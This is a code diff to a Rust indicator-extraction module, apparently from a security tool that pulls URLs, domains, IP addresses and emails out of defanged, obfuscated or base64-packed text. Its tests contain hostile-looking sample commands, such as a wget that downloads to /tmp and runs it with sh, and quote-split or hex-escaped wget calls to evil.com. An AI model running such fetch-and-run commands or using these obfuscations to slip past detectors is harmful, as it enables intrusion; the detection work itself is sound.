@@ -1,7 +1,20 @@
 //! Indicators: what texts name that is worth knowing elsewhere. One small file per kind, each an [`Extractor`].
 //!
 //! [`indicators`] prepares a text once ([`Text`]) and lets every extractor look at it. All of them run in time linear in the
-//! text's length, whatever it holds, and none is asked about a text that lacks the bytes its values cannot do without.
+//! text's length, whatever it holds, and none is asked about a text that lacks the bytes its values cannot do without ([`Needs`]).
+//! What was packed into the text (base64, percent signs) is looked at as a text of its own.
+mod decode;
+mod domain;
+mod email;
+mod fetched;
+mod ipv4;
+mod ipv6;
+mod needs;
+mod text;
+mod url;
+
+pub use needs::{ByteSet, Needs, Seen};
+
 use crate::events::Field;
 use std::ops::Range;
 
@@ -9,6 +22,8 @@ use std::ops::Range;
 pub const TEXT_BYTES_MAX: usize = 64 << 10;
 /// Most indicators taken from one text.
 pub const INDICATORS_PER_TEXT_MAX: usize = 48;
+/// How deep texts packed into texts are followed.
+pub const LAYERS_MAX: usize = 3;
 
 /// Where a text comes from: what a string of digits means depends on it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
@@ -37,8 +52,12 @@ pub struct Text<'a> {
     /// Offsets in `plain` where the text was defanged (ascending): who writes `evil[.]com` means a name.
     pub defanged: &'a [u32],
     /// Where a byte of `plain` stood in `verbatim`: pairs (offset in plain, offset in verbatim), ascending; between two of them both
-    /// run in step. Empty when the texts are the same, or when this text was decoded out of another one.
+    /// run in step. Two pairs enclose what was replaced, so an offset in `plain` occurs twice where something was removed.
+    /// Empty when the texts are the same.
     pub origins: &'a [(u32, u32)],
+    /// Offsets in `plain` (ascending) where a command names what `wget`, `curl` and the like shall fetch, or whom `ssh` shall call:
+    /// a word there is an address even if it looks like a file.
+    pub fetched: &'a [u32],
 }
 
 /// One indicator.
@@ -60,7 +79,7 @@ pub struct Found {
 impl Found {
     /// Notes a value that stands at `range` of `text.plain`; `value` is its canonical form.
     pub fn add(&mut self, field: Field, value: &str, text: &Text<'_>, range: Range<usize>) {
-        if self.indicators.len() >= INDICATORS_PER_TEXT_MAX || value.is_empty() {
+        if self.is_full() || value.is_empty() {
             return;
         }
         if self.indicators.iter().any(|known| known.field == field && known.value == value) {
@@ -69,6 +88,11 @@ impl Found {
         let written = text.written(range);
         let verbatim = (written != value).then(|| written.to_owned());
         self.indicators.push(Indicator { field, value: value.to_owned(), verbatim });
+    }
+
+    /// Whether no more is taken.
+    pub fn is_full(&self) -> bool {
+        self.indicators.len() >= INDICATORS_PER_TEXT_MAX
     }
 
     /// Whether this was found.
@@ -80,7 +104,7 @@ impl Found {
 impl<'a> Text<'a> {
     /// A text with nothing to prepare.
     pub fn plain(context: Context, text: &'a str) -> Text<'a> {
-        Text { context, verbatim: text, plain: text, defanged: &[], origins: &[] }
+        Text { context, verbatim: text, plain: text, defanged: &[], origins: &[], fetched: &[] }
     }
 
     /// What stands at `range` of `plain`, as it was written.
@@ -88,11 +112,19 @@ impl<'a> Text<'a> {
         if self.origins.is_empty() {
             return &self.plain[range];
         }
-        let origin = |at: usize| {
-            let pair = self.origins[self.origins.partition_point(|&(plain, _)| plain as usize <= at).saturating_sub(1)];
-            (pair.1 as usize + at.saturating_sub(pair.0 as usize)).min(self.verbatim.len())
-        };
-        self.verbatim.get(origin(range.start)..origin(range.end)).unwrap_or(&self.plain[range])
+        let (start, end) = (text::origin_of_start(self.origins, range.start), text::origin_of_end(self.origins, range.end));
+        self.verbatim.get(start..end).unwrap_or(&self.plain[range])
+    }
+
+    /// Whether the text was defanged somewhere in `range`.
+    pub fn is_defanged(&self, range: &Range<usize>) -> bool {
+        let next = self.defanged.partition_point(|&at| (at as usize) < range.start);
+        self.defanged.get(next).is_some_and(|&at| (at as usize) < range.end)
+    }
+
+    /// Whether a command fetches from what begins at `at`.
+    pub fn is_fetched(&self, at: usize) -> bool {
+        self.fetched.binary_search(&(at as u32)).is_ok()
     }
 }
 
@@ -101,17 +133,127 @@ pub trait Extractor: Sync {
     /// What it finds.
     fn fields(&self) -> &'static [Field];
 
+    /// What a text must hold for this to be worth a look: cheap to check, and most texts lack it.
+    fn needs(&self) -> Needs {
+        Needs::NOTHING
+    }
+
     /// Finds every value in the text, in time linear in its length.
     fn extract(&self, text: &Text<'_>, found: &mut Found);
 }
 
-/// Every extractor. A new kind is one file and one entry here.
-pub static EXTRACTORS: &[&dyn Extractor] = &[];
+/// Every extractor, in the order in which a text's indicators are listed. A new kind is one file and one entry here.
+pub static EXTRACTORS: &[&dyn Extractor] = &[&url::Urls, &domain::Domains, &ipv4::Addresses, &ipv6::Addresses, &email::Addresses];
 
 /// All indicators of a text.
 pub fn indicators(context: Context, text: &str, found: &mut Found) {
-    let text = Text::plain(context, text);
+    indicators_of_all(context, &text[..text.floor_char_boundary(TEXT_BYTES_MAX)], found);
+}
+
+/// [`indicators`] of a text however long: for measuring that time grows with length and no faster.
+#[doc(hidden)]
+pub fn indicators_of_all(context: Context, text: &str, found: &mut Found) {
+    let mut budget = decode::Budget::of(text);
+    look(context, text, 0, &mut budget, found);
+}
+
+fn look(context: Context, text: &str, layer: usize, budget: &mut decode::Budget, found: &mut Found) {
+    let seen = Seen::of(text);
+    let prepared = text::prepare(context, text, &seen);
+    let now_seen;
+    let (looked_at, seen) = match &prepared {
+        None => (Text::plain(context, text), &seen),
+        Some(prepared) => {
+            now_seen = Seen::of(&prepared.plain);
+            (prepared.text(context, text), &now_seen)
+        }
+    };
+    let fetched = fetched::targets(&looked_at, seen);
+    let looked_at = Text { fetched: &fetched, ..looked_at };
     for extractor in EXTRACTORS {
-        extractor.extract(&text, found);
+        if seen.suffices(&extractor.needs()) {
+            extractor.extract(&looked_at, found);
+        }
+    }
+    if layer < LAYERS_MAX {
+        decode::packed(&looked_at, seen, budget, &mut |budget, context, unpacked| look(context, unpacked, layer + 1, budget, found));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Rows of a table: context, text, and exactly what is found of one kind.
+    pub(super) type Row<'a> = (Context, &'a str, &'a [&'a str]);
+
+    /// Checks every row of a table, and that there are enough of them; tells all that is wrong at once.
+    pub(super) fn check(field: Field, rows: &[Row<'_>]) {
+        assert!(rows.len() >= 60, "{} rows", rows.len());
+        let mut wrong = String::new();
+        for (context, text, expected) in rows {
+            let mut found = Found::default();
+            indicators(*context, text, &mut found);
+            let values: Vec<&str> = found.indicators.iter().filter(|there| there.field == field).map(|there| there.value.as_str()).collect();
+            if values != *expected {
+                wrong.push_str(&format!("{context:?} {text:?}:\n    found    {values:?}\n    expected {expected:?}\n"));
+            }
+        }
+        assert!(wrong.is_empty(), "\n{wrong}");
+    }
+
+    /// The one value of a kind in a text, and how it was written there.
+    fn verbatim(context: Context, text: &str, field: Field) -> (String, Option<String>) {
+        let mut found = Found::default();
+        indicators(context, text, &mut found);
+        let mut values = found.indicators.into_iter().filter(|there| there.field == field);
+        let first = values.next().unwrap_or_else(|| panic!("no {} in {text:?}", field.name()));
+        assert_eq!(values.next(), None, "{text:?}");
+        (first.value, first.verbatim)
+    }
+
+    #[test]
+    fn what_stood_in_the_text_is_told_where_it_differs() {
+        use Context::*;
+        for (context, text, field, value, written) in [
+            (Other, "http://example.com/a", Field::Url, "http://example.com/a", None),
+            (Other, "see hxxp://evil[.]com/a.", Field::Url, "http://evil.com/a", Some("hxxp://evil[.]com/a")),
+            (Other, "see HTTP://Evil.COM/A now", Field::Url, "http://evil.com/A", Some("HTTP://Evil.COM/A")),
+            (Other, "(evil[.]com)", Field::Domain, "evil.com", Some("evil[.]com")),
+            (Other, "a 192[.]0[dot]2(.)1, b", Field::Ipv4, "192.0.2.1", Some("192[.]0[dot]2(.)1")),
+            (Chat, "ｅｖｉｌ．ｃｏｍ", Field::Domain, "evil.com", Some("ｅｖｉｌ．ｃｏｍ")),
+            (Chat, "ev\u{200b}il.c\u{ad}om\u{200b} x", Field::Domain, "evil.com", Some("ev\u{200b}il.c\u{ad}om")),
+            (Chat, "\u{200b}evil.com", Field::Domain, "evil.com", None),
+            (Chat, "info (at) evil (dot) com ok", Field::Email, "info@evil.com", Some("info (at) evil (dot) com")),
+            (Chat, "x info at evil dot com ok", Field::Email, "info@evil.com", Some("info at evil dot com")),
+            (Command, "wget $'\\x68ttp://evil.com/a'", Field::Url, "http://evil.com/a", Some("\\x68ttp://evil.com/a")),
+            (Command, "w'ge't ht\"tp\"://192.0.2.1/a;ls", Field::Url, "http://192.0.2.1/a", Some("ht\"tp\"://192.0.2.1/a")),
+            // Two stages, one inside the other.
+            (Command, "echo hx\\x78p://evil\\x5b.]com/\\x61 x", Field::Url, "http://evil.com/a", Some("hx\\x78p://evil\\x5b.]com/\\x61")),
+            (Other, "http:\\/\\/evil.com\\/a", Field::Url, "http://evil.com/a", Some("http:\\/\\/evil.com\\/a")),
+            (Other, "fe80::1%eth0", Field::Ipv6, "fe80::1", Some("fe80::1%eth0")),
+            (Other, "bücher.de", Field::Domain, "xn--bcher-kva.de", Some("bücher.de")),
+        ] {
+            assert_eq!(verbatim(context, text, field), (value.to_owned(), written.map(str::to_owned)), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_text_with_nothing_to_prepare_is_looked_at_as_it_is() {
+        for text in ["wget http://example.com/a -O /tmp/a; sh /tmp/a", "uname -a", "echo 'a' \"b\"", "größe", "a[0] (b) {c}"] {
+            assert!(text::prepare(Context::Command, text, &Seen::of(text)).is_none(), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_text_is_looked_at_up_to_its_bound_and_gives_no_more_than_its_share() {
+        let mut found = Found::default();
+        let far = format!("{} http://example.com/a", "é".repeat(TEXT_BYTES_MAX / 2));
+        indicators(Context::Other, &far, &mut found);
+        assert_eq!(found, Found::default());
+        let many: String = (0..200).map(|index| format!("http://example.com/{index} 192.0.2.{index} ")).collect();
+        indicators(Context::Command, &many, &mut found);
+        assert_eq!(found.indicators.len(), INDICATORS_PER_TEXT_MAX);
+        assert!(found.is_full());
     }
 }
